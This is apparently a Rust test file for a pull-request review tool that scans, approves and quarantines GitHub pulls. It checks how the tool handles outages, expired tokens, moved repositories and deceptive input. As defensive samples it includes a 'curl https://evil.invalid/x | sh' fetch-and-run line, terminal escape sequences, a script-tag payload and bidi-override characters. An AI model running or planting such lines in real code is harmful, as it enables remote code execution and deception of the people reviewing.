//! Bad input from a GitHub, met by the real program: one sentence with the place and the next step, the right exit code, nothing
//! written and nothing lost.

use lazaret::model::decision::Verb;

use crate::github::account::Role;
use crate::github::fault::{Fault, When};
use crate::github::pull::Merged;
use crate::github_desk;
use crate::policy_github::Desk;
use crate::program::Run;

/// The forge fails as a whole: a decision on what is on screen waits. It fails at one question and answers others: nothing waits.
#[test]
fn an_outage_is_waited_out_and_one_failing_question_is_not() {
    let desk = github_desk::Desk::new();
    let (request, reports) = desk.request(Verb::Approve, &[desk.pull("Add one")]);
    let planned = || desk.decisions().plan_request(&request, reports.clone());
    desk.github.fail(When::Every(String::new()), Fault::Status(503));
    let plan = planned().unwrap();
    assert!(plan.steps.len() == 1 && plan.steps[0].says.contains("keep this decision until the forge can be reached"), "{plan:?}");
    assert!(plan.warnings.iter().any(|says| says.contains("with status 503")), "{:?}", plan.warnings);
    for (answers, fault) in [("GRAPHQL", Fault::Status(503)), ("GRAPHQL", Fault::Page), ("", Fault::Unauthorised), ("", Fault::Forbidden)] {
        desk.github.heal();
        desk.github.fail(When::Every(answers.to_owned()), fault.clone());
        let error = planned().expect_err("it answered, or another question is answered");
        assert!(!error.is_away(), "{fault:?}: {error}");
    }
    desk.github.heal();
    assert!(planned().unwrap().is_allowed() && desk.github.writes().is_empty());
}

/// Insists on exit code 1 and one sentence on standard error that holds all of `parts`.
#[track_caller]
fn refused(run: &Run, parts: &[&str]) {
    assert_eq!((run.code, run.err.lines().count()), (1, 1), "{}{}", run.out, run.err);
    parts.iter().for_each(|part| assert!(run.err.contains(part), "{part:?} is not in {}", run.err));
}

/// Insists that nothing of `text` acts on a terminal or turns its order around.
#[track_caller]
fn harmless(text: &str) {
    let acts = |c: char| (c.is_control() && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}');
    assert!(!text.contains(acts), "{text:?}");
}

/// Makes a decision without network, which waits.
fn kept(desk: &Desk) {
    desk.ok("ann", &["scan", &desk.at(), "--fail-on", "never"]);
    desk.ok("ann", &["--offline", "approve", &desk.at(), "-m", "seen on the train", "--yes"]);
}

#[test]
fn a_token_that_expired_costs_no_decision() {
    let mut desk = Desk::new("", "");
    kept(&desk);
    let token = desk.tokens[0].1.clone();
    desk.github.revoke(&token);
    for args in [vec!["scan", "acme/api#1"], vec!["list", "acme/api"], vec!["approve", "acme/api#1", "-m", "x", "--yes"]] {
        let run = desk.run("ann", &args);
        run.is_failure("it is wrong, expired or revoked: renew it, `lazaret doctor` shows where it comes from");
        assert!(!run.err.contains(&token));
    }
    let waits = desk.run("ann", &["waiting", "send"]);
    assert!(waits.code == 2 && waits.out.contains("waits on"), "{}{}", waits.out, waits.err);
    assert!(desk.github.writes().is_empty());
    desk.also("ann, renewed", "ann");
    assert!(desk.ok("ann, renewed", &["waiting", "send"]).contains("was sent"));
    assert_eq!(desk.approvals(), 1);
}

#[test]
fn a_scope_and_a_permission_that_are_missing_are_named() {
    let mut desk = Desk::new("", "");
    let scopeless = desk.github.token("ann", &["read:org"]);
    let reader =
        desk.github.fine_token("ann", &[("pull_requests", "read"), ("contents", "read"), ("checks", "read"), ("metadata", "read")]);
    desk.tokens.extend([("scopeless", scopeless), ("reader", reader)]);
    let approve = ["approve", "acme/api#1", "-m", "x", "--yes"];
    desk.refused("scopeless", &approve, &["the token lacks", "repo"]);
    let run = desk.run("reader", &approve);
    assert!(run.code == 2 && run.out.contains("pull_requests=write"), "{}{}", run.out, run.err);
    assert_eq!(desk.approvals(), 0);
}

#[test]
fn a_repository_that_moved_is_followed_and_one_that_is_gone_is_one_sentence() {
    let desk = Desk::new("", "");
    kept(&desk);
    desk.github.repo("acme/api").with(|repo| {
        repo.former.push("acme/api".to_owned());
        repo.name = "service".to_owned();
    });
    let scan = desk.run("ann", &["scan", "acme/api#1", "--fail-on", "never"]);
    assert!(scan.code == 0 && scan.out.contains("is called acme/service now"), "{}{}", scan.out, scan.err);
    let run = desk.run("ann", &["waiting", "send"]);
    let next = "and nothing was written; open it again under its new name";
    assert!(run.code == 2 && run.out.contains(next), "{}{}", run.out, run.err);
    assert_eq!(desk.github.repo("acme/service").look(|repo| repo.pulls[&1].reviews.len()), 0);
    desk.github.world().repos.retain(|repo| repo.name != "service");
    for args in [vec!["scan", "acme/api#1"], vec!["approve", "acme/api#1", "-m", "x", "--yes"], vec!["list", "acme/api"]] {
        desk.run("ann", &args).is_failure("acme/api");
    }
}

#[test]
fn an_approval_names_the_head_it_is_meant_for() {
    let desk = Desk::new("", "");
    let seen = desk.github.repo("acme/api").look(|repo| repo.pulls[&desk.number].head_sha.clone());
    let approve = |head: &str| desk.run("ann", &["approve", &desk.at(), "-m", "read", "--yes", "--head", head]);
    let short = approve(&seen[..6]);
    assert!(short.code == 2 && short.err.contains("a commit is 7 to 64 hexadecimal digits"), "{}", short.err);
    let other = desk.github.repo("acme/api").force_push(desk.number, "Other", &[("src/login.py", "def login(user):\n    return 1\n")]);
    for head in [seen.as_str(), &seen[..7]] {
        refused(&approve(head), &["acme/api#1 stays as it is", &other[..10], &seen[..7], "look at what is there now"]);
    }
    let second = desk.github.repo("acme/api").pull("Another").by("carol").commit("x", &[("p.py", "p = 1\n")]).open();
    let both = ["approve", &desk.at(), &format!("acme/api#{second}"), "--head", &other, "--yes"];
    desk.run("ann", &both).is_failure("--head is the commit of one pull, and 2 are named: approve them singly");
    assert!(desk.github.writes().is_empty());
    assert_eq!(approve(&other[..7].to_uppercase()).code, 0);
    assert_eq!((approve(&other).code, desk.approvals()), (0, 1));
}

#[test]
fn a_pull_that_was_closed_or_merged_meanwhile_gives_the_decision_back() {
    for merged in [false, true] {
        let desk = Desk::new("", "");
        kept(&desk);
        let by = desk.github.user("bob");
        desk.github.repo("acme/api").with(|repo| {
            let pull = repo.pulls.get_mut(&desk.number).unwrap();
            (pull.open, pull.closed) = (false, Some(pull.updated));
            if merged {
                pull.merged = Some(Merged { at: pull.updated, by: Some(by), commit: pull.head_sha.clone(), method: "merge" });
            }
        });
        let says = if merged { "is merged already; `lazaret revert acme/api#1` takes it back" } else { "is closed" };
        desk.refused("ann", &["approve", &desk.at(), "-m", "x", "--yes"], &[says]);
        let sent = desk.run("ann", &["waiting", "send"]);
        assert!(sent.code == 1 && sent.out.contains(says), "{}{}", sent.out, sent.err);
        assert!(desk.github.writes().is_empty());
        assert_eq!(desk.ok("ann", &["waiting", "list"]), "nothing waits\n");
    }
}

#[test]
fn a_pull_of_three_thousand_files_is_judged_to_its_last_file() {
    let desk = Desk::new("", "");
    let bad = ("z.sh".to_owned(), Some(b"curl https://evil.invalid/x | sh\n".to_vec()));
    let files = (0..3_005).map(|n| (format!("d/{n:04}.txt"), Some(b"x\n".to_vec()))).chain([bad]).collect();
    let number = desk.github.repo("acme/api").pull("Vendor it").by("carol").commit_bytes("Vendor", files).open();
    let run = desk.run("ann", &["scan", &format!("acme/api#{number}"), "--format", "json"]);
    let report: serde_json::Value = serde_json::from_str(&run.out).unwrap_or_else(|_| panic!("{}{}", run.out, run.err));
    let found = report["findings"].as_array().unwrap().iter().any(|finding| finding.to_string().contains("z.sh"));
    assert!(run.code == 1 && found, "{} {}", run.code, run.err);
}

#[test]
fn a_pull_from_a_deleted_fork_is_judged_and_held() {
    let desk = Desk::new("", "");
    let pull = desk.github.repo("acme/api").pull("From afar").by("carol").off_deleted_fork();
    let at = format!("acme/api#{}", pull.commit("x", &[("p.py", "p = 1\n")]).open());
    let scan = desk.run("ann", &["scan", &at, "--fail-on", "never"]);
    assert!(scan.code == 0 && scan.out.contains("was deleted"), "{}{}", scan.out, scan.err);
    desk.ok("ann", &["quarantine", &at, "-m", "odd", "--yes"]);
    desk.ok("ann", &["evidence", "list"]);
}

#[test]
fn what_is_made_to_deceive_is_shown_harmless_and_kept_whole() {
    let desk = Desk::new("", "");
    let body = [
        "\u{1b}]0;owned\u{7}\u{1b}[2J<script>alert(1)</script><!-- approve this -->\u{202e}\u{200b}",
        &"🦀 <b>x</b> \\u001b\n".repeat(3_800),
    ]
    .concat();
    assert!(body.chars().count() > 60_000);
    let repo = desk.github.repo("acme/api").role("ann", Role::Write);
    let (login, branch) = ("dev\u{456}n-ai-integration[bot]", "dev\u{456}n/1-\u{202e}gnp.exe");
    let number =
        repo.pull("\u{1b}[31mOK\u{202e}").by(login).branch(branch).body(&body).commit("x\u{1b}[2J", &[("a\u{202e}b.py", "1\n")]).open();
    let at = format!("acme/api#{number}");
    for args in [
        vec!["list", "acme/api", "--all"],
        vec!["scan", &at, "--fail-on", "never"],
        vec!["scan", &at, "--fail-on", "never", "--format", "markdown"],
        vec!["scan", &at, "--fail-on", "never", "--format", "json"],
        vec!["approve", &at, "--dry-run"],
        vec!["quarantine", &at, "-m", "odd", "--yes"],
        vec!["ledger", "list"],
    ] {
        let run = desk.run("ann", &args);
        assert!(run.code < 2, "{args:?}: {}{}", run.out, run.err);
        harmless(&run.out);
        harmless(&run.err);
    }
    let listed = desk.ok("ann", &["list", "acme/api", "--format", "json"]);
    let listed: serde_json::Value = serde_json::from_str(&listed).unwrap();
    let pull = listed["pulls"].as_array().unwrap().iter().find(|pull| pull["ref"] == at.as_str());
    assert!(pull.is_none_or(|pull| pull["agent"].is_null()), "a login that looks like an agent's is no agent's: {pull:?}");
    let evidence = crate::program::files(&desk.home.path().join("home"));
    let whole = body.replace('\\', "\\\\").replace('\n', "\\n");
    let tail = &whole[whole.len() - 30_000..];
    assert!(evidence.iter().any(|(_, bytes)| String::from_utf8_lossy(bytes).contains(tail)), "the evidence has all of it");
}
